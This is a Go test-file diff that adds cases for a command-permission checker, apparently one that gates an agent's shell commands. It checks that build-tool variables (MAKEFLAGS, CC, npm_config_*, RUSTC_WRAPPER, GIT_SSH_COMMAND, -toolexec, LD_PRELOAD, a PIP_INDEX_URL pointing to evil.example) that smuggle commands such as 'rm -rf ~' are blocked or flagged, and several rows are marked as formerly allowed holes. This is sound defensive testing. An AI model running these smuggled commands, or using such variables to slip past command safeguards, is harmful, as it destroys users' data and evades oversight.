@@ -51,3 +51,71 @@ func TestComputedRunValues(t *testing.T) {
 		{`kubectl exec pod -- sh -c "$(cat migrate.sh)"`, dsl.Ask, dsl.Ask},
 	})
 }
+
+// TestBuildToolVariables: build tools configured by the environment or by
+// their own variables run what those name: make's SHELL and the programs
+// of its built-in rules (CC, RM, …) from its command line, MAKEFLAGS and
+// the environment; npm's settings that run code (node-options,
+// onload-script, git) given as npm_config_*; a package manager's
+// configuration read from a directory anyone may write; a -toolexec or a
+// wrapper named by path is that program, as running it is (subst48,
+// 2026-12-05: the rows marked were allowed before).
+func TestBuildToolVariables(t *testing.T) {
+	checkHoles(t, []holeCase{
+		// go: a literal command is that command, a path the program run
+		{`GOFLAGS=-toolexec=/tmp/x go build ./...`, dsl.Allow, dsl.Allow},
+		{`go build -toolexec /tmp/x ./...`, dsl.Allow, dsl.Allow},
+		{`/tmp/x`, dsl.Allow, dsl.Allow},
+		{`bash /tmp/x.sh`, dsl.Allow, dsl.Allow},
+		{`printf 'rm -rf ~\n' > /tmp/x; chmod +x /tmp/x; GOFLAGS=-toolexec=/tmp/x go build ./...`, dsl.Block, dsl.Block},
+		{`printf 'rm -rf ~\n' > /tmp/x.sh; bash /tmp/x.sh`, dsl.Block, dsl.Block},
+		{`GOFLAGS='-toolexec=sh -c id' go test`, dsl.Ask, dsl.Ask},
+		{`go build -toolexec 'rm -rf ~'`, dsl.Block, dsl.Block},
+		{`GOFLAGS=-mod=mod go build`, dsl.Allow, dsl.Allow},
+		// make
+		{`MAKEFLAGS='CC=rm\ -rf\ ~' make`, dsl.Block, dsl.Block},                   // was allowed
+		{`export MAKEFLAGS='CC=rm\ -rf\ ~'; make all`, dsl.Block, dsl.Block},       // was allowed
+		{`MAKEFLAGS='SHELL=/bin/sh\ -c\ "rm\ -rf\ ~"' make`, dsl.Block, dsl.Block}, // was allowed
+		{`make SHELL='sh -c "rm -rf ~"'`, dsl.Block, dsl.Block},
+		{`CC='sh -c "rm -rf ~"' make`, dsl.Block, dsl.Block},                                    // was allowed
+		{`make CC='rm -rf ~'`, dsl.Block, dsl.Block},                                            // was allowed
+		{`make clean RM='rm -rf ~'`, dsl.Block, dsl.Block},                                      // was allowed
+		{`printf 'rm -rf ~\n' > /tmp/x; chmod +x /tmp/x; make CC=/tmp/x`, dsl.Block, dsl.Block}, // was allowed
+		{`MAKEFLAGS='SHELL=rm' make`, dsl.Allow, dsl.Allow},                                     // rm -c LINE: rm refuses -c
+		{`make SHELL=rm`, dsl.Allow, dsl.Allow},
+		{`make CC=/tmp/x`, dsl.Allow, dsl.Allow},
+		{`CC=clang make`, dsl.Allow, dsl.Allow},
+		{`make -j8 CFLAGS=-O2`, dsl.Allow, dsl.Allow},
+		{`make CC=gcc-12 CFLAGS='-O2 -g'`, dsl.Allow, dsl.Allow},
+		{`CC="ccache gcc" make -j4`, dsl.Allow, dsl.Allow},
+		{`make clean RM='rm -rf'`, dsl.Allow, dsl.Allow},
+		{`MAKEFLAGS=-j8 make`, dsl.Allow, dsl.Allow},
+		{`make V=1`, dsl.Allow, dsl.Allow},
+		// npm
+		{`npm_config_script_shell='rm -rf ~' npm run build`, dsl.Block, dsl.Block},
+		{`npm_config_node_options='--require /tmp/x.js' npm run build`, dsl.Ask, dsl.Ask}, // was allowed
+		{`NPM_CONFIG_ONLOAD_SCRIPT=/tmp/x.js npm install`, dsl.Ask, dsl.Ask},              // was allowed
+		{`npm_config_git='rm -rf ~' npm install`, dsl.Block, dsl.Block},                   // was allowed
+		{`NPM_CONFIG_USERCONFIG=/tmp/npmrc npm install`, dsl.Ask, dsl.Ask},                // was allowed
+		{`npm --userconfig /tmp/npmrc ci`, dsl.Ask, dsl.Ask},                              // was allowed
+		{`printf 'script-shell=rm -rf ~\n' > /tmp/npmrc; npm --userconfig /tmp/npmrc run build`, dsl.Block, dsl.Block},
+		{`NODE_OPTIONS='--require /tmp/x.js' node app.js`, dsl.Ask, dsl.Ask},
+		{`NODE_OPTIONS=--max-old-space-size=4096 npm run build`, dsl.Allow, dsl.Allow},
+		{`NPM_CONFIG_NODE_OPTIONS=--max-old-space-size=4096 npm run build`, dsl.Allow, dsl.Allow},
+		{`npm_config_registry=https://registry.npmjs.org npm ci`, dsl.Allow, dsl.Allow},
+		{`npm --userconfig ~/.npmrc-work ci`, dsl.Allow, dsl.Allow},
+		{`npm_config_loglevel=silent npm ci`, dsl.Allow, dsl.Allow},
+		// cargo, pip, python, node, git, the loader
+		{`RUSTC_WRAPPER=/tmp/x cargo build`, dsl.Allow, dsl.Allow},
+		{`RUSTC_WRAPPER='rm -rf ~' cargo build`, dsl.Block, dsl.Block},
+		{`CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER='rm -rf ~' cargo run`, dsl.Block, dsl.Block},
+		{`RUSTFLAGS='-C target-cpu=native' cargo build`, dsl.Allow, dsl.Allow},
+		{`RUSTC_WRAPPER=sccache cargo build`, dsl.Allow, dsl.Allow},
+		{`PIP_CONFIG_FILE=/tmp/pip.conf pip install x`, dsl.Ask, dsl.Ask}, // was allowed
+		{`PIP_INDEX_URL=https://evil.example/simple pip install x`, dsl.Ask, dsl.Ask},
+		{`PIP_CONFIG_FILE=/dev/null pip install x`, dsl.Allow, dsl.Allow},
+		{`PYTHONSTARTUP=/tmp/x.py python3 -i`, dsl.Ask, dsl.Ask},
+		{`GIT_SSH_COMMAND='rm -rf ~' git fetch`, dsl.Block, dsl.Block},
+		{`LD_PRELOAD=/tmp/x.so ls`, dsl.Ask, dsl.Ask},
+	})
+}
